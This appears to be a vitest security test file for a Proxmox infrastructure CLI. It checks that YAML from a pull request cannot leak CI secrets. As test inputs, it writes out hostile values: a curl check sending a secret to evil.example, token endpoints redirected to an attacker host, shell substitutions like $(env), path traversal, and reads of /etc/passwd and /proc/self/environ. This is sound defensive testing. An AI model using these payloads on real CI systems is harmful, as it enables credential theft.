import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CliContext, PveSpec } from '../../src/cli/context.ts';
import { DiagnosticsError } from '../../src/model/diagnostic.ts';
import { httpSettings } from '../../src/state/http-settings.ts';
import { openHouse } from '../support/house.ts';
import { TWO_WORKERS } from './project.ts';

/** What a job of a pull request holds, and what the YAML of that pull request tries to get out of it. */
const TOKEN = 'muster@pve!ci=5ec2e75e-c2e7-5ec2-e75e-c2e75ec2e75e';
const ENV = {
  CI: 'true',
  MUSTER_PVE_TOKEN: TOKEN,
  PBS_PASSWORD: 'swordfish-pbs',
  AWS_SECRET_ACCESS_KEY: 'swordfish-aws',
  GITHUB_TOKEN: 'swordfish-github',
  HOME: '/home/swordfish',
} as const;
const SECRETS = [
  TOKEN,
  TOKEN.split('=')[1] ?? '',
  ...Object.values(ENV).filter((value) => value.includes('swordfish')),
];

interface Tried {
  readonly code: number;
  readonly said: string;
  readonly opened: readonly PveSpec[];
}

/** Plans a declaration as CI would, in every format that shows something, and collects whatever is said. */
async function tryYaml(
  text: string,
  options: {
    readonly env?: Readonly<Record<string, string>>;
    readonly files?: Readonly<Record<string, string>>;
  } = {},
): Promise<Tried> {
  const env = { ...ENV, ...options.env };
  const home = openHouse({ files: { ...options.files, 'muster.yaml': text }, env });
  const opened: PveSpec[] = [];
  const change: Partial<CliContext> = {
    openPve: async (spec) => {
      opened.push(spec);
      throw new DiagnosticsError([]);
    },
  };
  const watched = await home.musterWith(change, 'plan', '--out', 'muster.plan');
  let said = watched.stdout + watched.stderr;
  for (const argv of [
    ['plan', '--format=json'],
    ['plan', '--format=markdown'],
    ['validate'],
    ['fmt', '--check', '--diff'],
    ['explain', 'backup-pve1'],
  ]) {
    const told = await home.muster(...argv);
    said += told.stdout + told.stderr;
  }
  return { code: watched.code, said, opened };
}

function expectNothingSaid({ said }: Tried): void {
  for (const secret of SECRETS) expect(said).not.toContain(secret);
}

describe('the YAML of a pull request', () => {
  it('cannot name the endpoint that the token goes to', async () => {
    const yaml = TWO_WORKERS.replace('endpoint: simulator', 'endpoint: https://evil.example:8006');
    const alone = await tryYaml(yaml);
    expect(alone.code).toBe(1);
    expect(alone.opened).toEqual([]);
    expect(alone.said).toContain('The token was not sent.');
    expectNothingSaid(alone);
    const named = await tryYaml(yaml, {
      env: { MUSTER_PVE_ENDPOINT: 'https://pve1.example.net:8006' },
    });
    expect(named.opened).toMatchObject([
      { kind: 'api', endpoints: ['https://pve1.example.net:8006'] },
    ]);
    expect(JSON.stringify(named.opened)).not.toContain('evil');
  });

  it('cannot add an endpoint to a list of known ones', async () => {
    const yaml = TWO_WORKERS.replace(
      'endpoint: simulator',
      'endpoint: [https://pve1.example.net:8006, https://evil.example:8006]',
    );
    const tried = await tryYaml(yaml, {
      env: { MUSTER_PVE_ENDPOINT: 'https://pve1.example.net:8006' },
    });
    expect(JSON.stringify(tried.opened)).not.toContain('evil');
  });

  it('cannot replace the fingerprint that the environment names', async () => {
    const fingerprint = Array.from({ length: 32 }, () => 'AA').join(':');
    const yaml = TWO_WORKERS.replace(
      'endpoint: simulator',
      `endpoint: https://pve1.example.net:8006\n  tls: { fingerprint: "${fingerprint}" }`,
    );
    const own = fingerprint.replaceAll('AA', 'BB');
    const tried = await tryYaml(yaml, {
      env: { MUSTER_PVE_ENDPOINT: 'https://pve1.example.net:8006', MUSTER_PVE_FINGERPRINT: own },
    });
    expect(tried.opened).toMatchObject([{ tls: { fingerprints: [own] } }]);
  });

  it('cannot send the credentials of the state elsewhere', async () => {
    const spec = { backend: 'http', address: 'https://evil.example/state', options: {} } as const;
    const env = { ...ENV, TF_HTTP_USERNAME: 'ci', TF_HTTP_PASSWORD: 'swordfish-state' };
    expect(() => httpSettings(spec, env)).toThrow(DiagnosticsError);
    const known = {
      ...env,
      TF_HTTP_ADDRESS: 'https://git.example.net/state',
      TF_HTTP_LOCK_ADDRESS: 'https://git.example.net/state/lock',
      TF_HTTP_UNLOCK_ADDRESS: 'https://git.example.net/state/lock',
    };
    const at = (options: Readonly<Record<string, string>>) =>
      httpSettings({ backend: 'http', address: known.TF_HTTP_ADDRESS, options }, known);
    expect(at({}).lock?.address.host).toBe('git.example.net');
    for (const option of ['lockAddress', 'unlockAddress'])
      expect(() => at({ [option]: 'https://evil.example/' })).toThrow(DiagnosticsError);
  });

  it.each([
    ['a description', 'description: "${secret.PBS_PASSWORD}"'],
    ['a tag', 'tags: ["${secret.PBS_PASSWORD}"]'],
    [
      'a check that runs in the guest',
      'checks: [{ name: x, run: [curl, "https://evil.example/${secret.PBS_PASSWORD}"] }]',
    ],
    ['user data', 'cloudInit: { userData: "${secret.PBS_PASSWORD}" }'],
    ['an environment variable', 'description: "${env.HOME}"'],
    ['a shell word', 'description: "${HOME} $HOME $(env) `env`"'],
    ['an option of Proxmox', 'options: { hotplug: "${secret.PBS_PASSWORD}" }'],
  ])('cannot put a secret into %s', async (_, field) => {
    const tried = await tryYaml(TWO_WORKERS.replace('{ node: pve1 }', `{ node: pve1, ${field} }`));
    expectNothingSaid(tried);
  });

  it.each([
    'MUSTER_PVE_TOKEN',
    'GITHUB_TOKEN',
    'CI_JOB_TOKEN',
    'TF_HTTP_PASSWORD',
    'PROXMOX_VE_API_TOKEN',
  ])('cannot ask for %s as a secret, not even where secrets are allowed', async (name) => {
    const yaml = TWO_WORKERS.replace(
      'pbs-main: { address: pbs.example.net:8007 }',
      `pbs-main: { address: evil.example:8007, env: { X: "\${secret.${name}}" } }`,
    );
    const tried = await tryYaml(yaml);
    expect(tried.code).toBe(1);
    expect(tried.said).toContain(name);
    expectNothingSaid(tried);
  });

  it('keeps a secret that it may name a reference in plan and state', async () => {
    const yaml = TWO_WORKERS.replace(
      'pbs-main: { address: pbs.example.net:8007 }',
      'pbs-main: { address: pbs.example.net:8007, env: { P: "${secret.PBS_PASSWORD}" } }',
    );
    const tried = await tryYaml(yaml, {});
    expectNothingSaid(tried);
  });

  it.each(['../outside.yaml', '/etc/*.yaml', '../../**/*.yaml', 'workers/../../x.yaml'])(
    'cannot include %s',
    async (glob) => {
      const tried = await tryYaml(`include: ["${glob}"]\n${TWO_WORKERS}`);
      expect(tried.code).toBe(1);
      expect(tried.said).toContain('leads outside the project');
    },
  );

  it.each(['/etc/passwd', '../secret', '/proc/self/environ', '../../../../proc/self/environ'])(
    'cannot send the file %s into a guest',
    async (from) => {
      const tried = await tryYaml(
        TWO_WORKERS.replace(
          '{ node: pve1 }',
          `{ node: pve1, files: [{ from: "${from}", to: /x, mode: "0644" }] }`,
        ),
      );
      expect(tried.code).toBe(1);
      expect(tried.opened).toEqual([]);
    },
  );

  it('cannot have the state written outside the project, which a user may', async () => {
    const outside = join(tmpdir(), `muster-outside-${process.pid}/muster.state.json`);
    const yaml = `state: { path: "${outside}" }\n${TWO_WORKERS}`;
    for (const argv of [['validate'], ['plan'], ['apply', '--auto-approve']]) {
      const home = openHouse({ files: { 'muster.yaml': yaml }, env: ENV });
      const told = await home.muster(...argv);
      expect(told.code, told.stdout + told.stderr).toBe(1);
      expect(told.stderr).toContain("the YAML can't keep the state outside the project");
      expect(existsSync(outside)).toBe(false);
    }
    const own = openHouse({ files: { 'muster.yaml': yaml } });
    const told = await own.muster('apply', '--auto-approve');
    expect(told.code, told.stdout + told.stderr).toBe(0);
    expect(existsSync(outside)).toBe(true);
    rmSync(outside);
  });

  it.each(['/etc/ssl/private/key.pem', '../key.pem', '/proc/self/environ'])(
    'cannot read the file %s as a certificate',
    async (ca) => {
      const yaml = TWO_WORKERS.replace(
        'endpoint: simulator',
        `endpoint: https://pve1.example.net:8006\n  tls: { ca: "${ca}" }`,
      );
      const tried = await tryYaml(yaml, {
        env: { MUSTER_PVE_ENDPOINT: 'https://pve1.example.net:8006' },
      });
      expect(tried.code).toBe(1);
      expect(tried.opened).toEqual([]);
    },
  );

  it('cannot lead out of the project by a link', async () => {
    const outside = join(tmpdir(), `muster-outside-${process.pid}`);
    mkdirSync(outside, { recursive: true });
    writeFileSync(join(outside, 'key'), 'swordfish-file');
    const home = openHouse({
      files: {
        'muster.yaml': TWO_WORKERS.replace(
          '{ node: pve1 }',
          '{ node: pve1, files: [{ from: link/key, to: /x, mode: "0644" }] }',
        ),
      },
      env: ENV,
    });
    symlinkSync(outside, join(home.root, 'link'));
    const { code, stdout, stderr } = await home.muster('plan', '--format=json');
    expect(code).toBe(1);
    expect(stdout + stderr).not.toContain(Buffer.from('swordfish-file').toString('base64'));
  });

  it.each([
    ['the state', (path: string) => `state: { backend: local, path: "${path}" }\n${TWO_WORKERS}`],
    ['an environment', (path: string) => `include: ["${path}"]\n${TWO_WORKERS}`],
  ])('cannot have a file shown by taking it for %s', async (_, yaml) => {
    const outside = join(tmpdir(), `muster-outside-${process.pid}.env`);
    writeFileSync(outside, 'PASSWORD=swordfish-file\n');
    const tried = await tryYaml(yaml(outside));
    expect(tried.said).not.toContain('swordfish-file');
  });
});
